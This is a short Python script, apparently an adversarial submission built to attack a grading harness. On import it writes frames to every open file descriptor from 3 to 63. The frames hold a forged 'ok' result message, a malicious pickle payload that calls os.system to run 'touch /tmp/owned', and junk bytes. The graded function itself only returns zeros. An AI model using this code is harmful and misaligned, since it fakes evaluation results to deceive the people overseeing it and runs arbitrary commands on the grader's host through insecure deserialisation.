"""Writes messages of its own to the grader, over every open descriptor."""

# %% attack
import torch
import os
import struct

text = b'{"kind": "dict", "value": [["ok", 7.0]]}'
evil = b"cos\nsystem\n(S'touch /tmp/owned'\ntR."
for number in range(3, 64):
    for body in (text, evil, b"\xff" * 64):
        try:
            os.write(number, struct.pack("!II", len(body), 0) + body)
        except OSError:
            pass


def attack(*args, **kwargs):
    return torch.zeros(1)
